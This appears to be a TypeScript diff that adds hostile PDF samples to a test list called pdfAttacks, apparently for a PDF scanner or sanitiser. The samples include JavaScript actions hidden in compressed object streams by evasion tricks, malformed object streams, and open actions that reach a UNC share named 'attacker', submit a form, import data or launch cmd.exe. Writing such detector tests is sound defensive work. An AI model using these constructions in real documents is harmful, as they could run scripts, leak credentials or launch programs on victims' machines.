@@ -58,6 +58,17 @@ export function objectStream(
   }
 }
 
+function packed(
+  data: string,
+  filter = '/Filter/FlateDecode',
+  pack: (data: Buffer) => Uint8Array = deflateSync,
+): PdfStream {
+  return {
+    dictionary: `/Type/ObjStm/N 2/First 10${filter}`,
+    data: pack(Buffer.from(data, 'latin1')),
+  }
+}
+
 const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
 const asHex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`)
 
@@ -118,6 +129,60 @@ export const pdfAttacks: readonly Sample[] = (
         ),
       ),
     ],
+    ...[
+      ['an open string before it', '4 0 6 2   ( <</S%\n/JavaScript/JS 9 0 R>>'],
+      ['a comment before it', '4 0 6 2   % <</S%\r/JavaScript/JS 9 0 R>>'],
+      ['a string around it', '4 0 6 2   ( <</AA<</O<</JS(x)/S 6 0 R>>>>>> )'],
+      ['a blank run before its type', `4 0 6 2   ( <</S${' '.repeat(99)}/JavaScript/JS 9 0 R>>`],
+    ].map(
+      ([what, data = '']) =>
+        [
+          `a script in an object stream with ${what}`,
+          pdfOf([...page('/OpenAction 6 0 R'), packed(data)]),
+        ] as const,
+    ),
+    [
+      'an object stream that has the end of a stream in a string',
+      pdfOf([
+        ...page('/OpenAction 6 0 R'),
+        packed('4 0 6 12  (endstream) <</AA<</O<</JS(x)/S 6 0 R>>>>>>', '', (data) => data),
+      ]),
+    ],
+    [
+      'an object stream of two beginnings',
+      pdfOf([
+        ...page(),
+        { ...packed('4 0 6 2   null'), dictionary: '/Type/ObjStm/N 2/First 10/First 4' },
+      ]),
+    ],
+    [
+      'an object stream of more objects than it names',
+      pdfOf([...page(), { ...packed('4 0 6 2   null'), dictionary: '/Type/ObjStm/N 3/First 10' }]),
+    ],
+    [
+      'an object stream without end',
+      Uint8Array.from(
+        Buffer.concat([
+          pdfOf(page()),
+          Buffer.from('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n'),
+          deflateSync(Buffer.from('9 0 null')),
+        ]),
+      ),
+    ],
+    [
+      'an object stream that ends in another',
+      pdfOf([...page(), '<</Type/ObjStm/N 0/First 0>>stream\n', packed('4 0 null')]),
+    ],
+    [
+      'a document of a share on opening',
+      pdfOf(page('/OpenAction<</S/GoToE/F(\\\\\\\\attacker\\\\x.pdf)/D[0/Fit]>>')),
+    ],
+    [
+      'another document on opening',
+      pdfOf(page('/OpenAction<</S/GoToR/F(\\\\\\\\attacker\\\\x.pdf)/D[0/Fit]>>')),
+    ],
+    ['a form sent on opening', pdfOf(page('/OpenAction<</S/SubmitForm/F(http://a.test)>>'))],
+    ['data imported on opening', pdfOf(page('/OpenAction<</S/ImportData/F(x.fdf)>>'))],
     ['a launch action', pdfOf(page('/OpenAction<</S/Launch/F(cmd.exe)>>'))],
     [
       'an embedded file',
